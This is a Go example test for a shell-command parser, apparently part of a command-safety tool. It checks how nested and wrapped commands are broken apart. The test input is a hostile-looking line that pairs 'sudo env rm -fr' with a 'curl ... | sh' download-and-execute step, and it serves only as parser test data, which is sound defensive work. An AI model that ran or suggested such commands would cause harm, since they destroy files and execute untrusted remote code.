package shell_test

import (
	"fmt"

	"rampart.dev/pkg/shell"
)

func ExampleParse() {
	r := shell.Parse(`sudo env /bin/rm -fr ~/x && bash -c "curl -s https://x.io/i | sh"`)
	for _, c := range r.Commands {
		fmt.Println(c.Name, c.Args, "depth", c.Depth, "via", c.Via, "pipeline", c.Pipeline, "stage", c.Stage)
	}
	// Output:
	// sudo [env /bin/rm -fr ~/x] depth 0 via [] pipeline 0 stage 0
	// env [/bin/rm -fr ~/x] depth 0 via [sudo] pipeline 0 stage 0
	// rm [-fr ~/x] depth 0 via [sudo env] pipeline 0 stage 0
	// bash [-c curl -s https://x.io/i | sh] depth 0 via [] pipeline 1 stage 0
	// curl [-s https://x.io/i] depth 1 via [] pipeline 2 stage 0
	// sh [] depth 1 via [] pipeline 2 stage 1
}
